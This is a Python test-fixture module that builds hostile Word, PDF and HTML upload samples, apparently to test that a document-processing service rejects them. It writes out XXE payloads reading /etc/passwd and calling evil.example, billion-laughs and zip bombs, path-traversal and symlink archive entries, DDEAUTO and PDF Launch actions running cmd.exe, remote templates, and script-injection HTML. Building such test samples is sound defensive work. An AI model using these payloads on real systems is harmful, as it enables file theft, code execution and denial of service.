"""Files that would like to do something: run, fetch, fill the memory, write elsewhere, pass for another kind."""

from __future__ import annotations

import io
import zipfile

from vanban.tests.docx_files import OFFICE, PACKAGE, make_docx, paragraph, zipped
from vanban.tests.pdf_files import Sheet, assembled, make_pdf

EVIL = "http://evil.example"
TEXT = "KẾ HOẠCH Triển khai công tác thông tin đối ngoại năm 2026"
RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{EVIL}/e">]>'
LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def docx(body: str = "", *, relations: str = "", **more: bytes) -> bytes:
    """A Word file with one paragraph of text, this beside it, these relationships and parts (``__`` for a slash)."""
    found = parts(make_docx(paragraph(TEXT) + body))
    found[RELATIONS] = found[RELATIONS].replace(b"</Relationships>", f"{relations}</Relationships>".encode())
    return zipped(found | {name.replace("__", "/"): content for name, content in more.items()})


def changed(name: str, old: str, new: str) -> bytes:
    """A Word file in which a part says something else."""
    found = parts(make_docx(paragraph(TEXT)))
    assert old.encode() in found[name]
    return zipped(found | {name: found[name].replace(old.encode(), new.encode())})


def outside(kind: str, target: str, id_: str = "rId9") -> str:
    return f'<Relationship Id="{id_}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def field(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def bomb(name: str, size: int) -> bytes:
    return zipped(parts(make_docx(paragraph(TEXT))) | {name: b"\0" * size})


def twice(name: str) -> bytes:
    """Two parts of one name: programs disagree on which counts."""
    out = io.BytesIO(make_docx(paragraph(TEXT)))
    with zipfile.ZipFile(out, "a") as archive:
        archive.NameToInfo.clear()
        archive.writestr(name, "<x/>")
    return out.getvalue()


def link_to_passwd() -> bytes:
    """An entry that is a symbolic link where archives are unpacked."""
    out = io.BytesIO(make_docx(paragraph(TEXT)))
    entry = zipfile.ZipInfo("word/media/x")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


MACRO = {"word__vbaProject.bin": b"\xd0\xcf\x11\xe0Sub AutoOpen() Shell"}
VML = f'<w:p><w:r><w:pict><v:shape><v:imagedata r:href="rId9" src="{EVIL}/x.png"/></v:shape></w:pict></w:r></w:p>'
EMBEDDED = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
    'ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>'
)
WORD = {
    "macros": docx(relations=f'<Relationship Id="rId9" Type="{OFFICE}/vbaProject" Target="vbaProject.bin"/>', **MACRO),
    "macros under another name": changed(
        TYPES,
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "template elsewhere": docx(relations=outside("attachedTemplate", f"{EVIL}/t.dotm")),
    "picture elsewhere": docx(VML, relations=outside("image", f"{EVIL}/x.png")),
    "picture on a server of a network": docx(VML, relations=outside("image", "file://evil.example/share/x.png")),
    "frame elsewhere": docx('<w:altChunk r:id="rId9"/>', relations=outside("aFChunk", f"{EVIL}/x.html")),
    "part elsewhere": docx(relations=outside("styles", f"{EVIL}/styles.xml")),
    "part outside": docx(relations=f'<Relationship Id="rId9" Type="{OFFICE}/styles" Target="../../../etc/passwd"/>'),
    "object": docx(EMBEDDED, **{"word__embeddings__oleObject1.bin": b"MZ\x90"}),
    "object elsewhere": docx(EMBEDDED, relations=outside("oleObject", f"{EVIL}/x.hta")),
    "program of a field": docx(field("DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;")),
    "file of a field": docx(field("INCLUDETEXT file:///etc/passwd") + field(f"INCLUDEPICTURE {EVIL}/x.png \\d")),
    "link that runs": docx(
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',
        relations=outside("hyperlink", "javascript:alert(1)"),
    ),
    "entity of a file": changed("word/document.xml", "<w:document", f"{XXE}<w:document"),
    "laughs": changed("word/document.xml", "<w:document", f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><w:document'),
    "entity in relations": changed(RELATIONS, "<Relationships", f"{XXE}<Relationships"),
    "entity in the list of parts": changed(TYPES, "<Types", f"{XXE}<Types"),
    "bomb": bomb("word/media/x.png", 400_000_000),
    "bomb in the text": bomb("word/document.xml", 100_000_000),
    "path upwards": zipped(parts(make_docx(paragraph(TEXT))) | {"../../../../tmp/nhipcau-evil": b"x"}),
    "path from the root": zipped(parts(make_docx(paragraph(TEXT))) | {"/tmp/nhipcau-evil": b"x"}),  # noqa: S108
    "path of Windows": zipped(parts(make_docx(paragraph(TEXT))) | {"..\\..\\nhipcau-evil": b"x"}),
    "link to a file": link_to_passwd(),
    "two texts": twice("word/document.xml"),
    "NUL in a name": docx(relations=outside("styles", "a&#0;b")),
}


def pdf(catalog: str) -> bytes:
    """A page of text in a PDF whose catalog wants something."""
    page = Sheet().lines(60, 60, TEXT)
    made = make_pdf(page)
    objects = [part.split(b"obj\n", 1)[1] for part in made.split(b"\nendobj\n")[:-1]]
    objects[0] = objects[0].replace(b"/Type /Catalog", b"/Type /Catalog " + catalog.encode())
    return assembled(objects)


PDF = {
    "script": pdf(f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{EVIL}'\\)) >>"),
    "named scripts": pdf(
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.exportDataObject()) >>] >> >>"
    ),
    "program": pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /F (/bin/sh) >>"),
    "address": pdf(f"/OpenAction << /S /URI /URI ({EVIL}/) >>"),
    "other file": pdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
    "form that is sent": pdf(
        f"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({EVIL}/) >> >> /AcroForm << /Fields [] /XFA (x) >>"
    ),
    "embedded program": pdf(
        "/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 3 0 R >> >>] >> >>"
    ),
}
HTML = {
    "all that a page fetches": "".join(
        [
            f'<html><head><meta http-equiv="refresh" content="0;url={EVIL}/r"><base href="{EVIL}/">',
            f'<link rel=stylesheet href="{EVIL}/c.css"><script src="{EVIL}/s.js"></script>',
            f'<style>@import "{EVIL}/i"</style></head><body onload="alert(1)"><p>{TEXT}</p>',
            f'<img src="{EVIL}/i.png" onerror="alert(1)"><iframe src="{EVIL}/f"></iframe>',
            '<object data="file:///etc/passwd"></object><svg onload="alert(1)"><script>alert(1)</script></svg>',
        ]
    ),
    "entity": f"<?xml version='1.0'?>{XXE}<html><body><p>{TEXT} &e; &h;</p></body></html>",
    "mail": f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n"
    f"Content-Location: {EVIL}/\n\n<html><body><p>{TEXT}</p><img src='{EVIL}/x'></body></html>\n--b--",
}
KINDS = {
    "Word under the name of a PDF": ("x.pdf", make_docx(paragraph(TEXT))),
    "PDF under the name of a Word file": ("x.docx", make_pdf(Sheet().lines(60, 60, TEXT))),
    "page under the name of a text": (
        "x.txt",
        f"<html><body><p>{TEXT}</p><script>alert(1)</script></body></html>".encode(),
    ),
    "picture with scripts": ("x.docx", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "PDF that is a zip too": ("x.pdf", make_pdf(Sheet().lines(60, 60, TEXT)) + make_docx(paragraph("khác"))),
    "page that is a picture too": ("x.html", b"GIF89a/*" + HTML["entity"].encode()),
}
UPLOADS = (
    {f"Word: {name}": (f"{name}.docx", data) for name, data in WORD.items()}
    | {f"PDF: {name}": (f"{name}.pdf", data) for name, data in PDF.items()}
    | {f"HTML: {name}": (f"{name}.html", text.encode()) for name, text in HTML.items()}
    | KINDS
)
__all__ = ["EVIL", "OFFICE", "PACKAGE", "TEXT", "UPLOADS", "XXE", "outside", "parts", "zipped"]
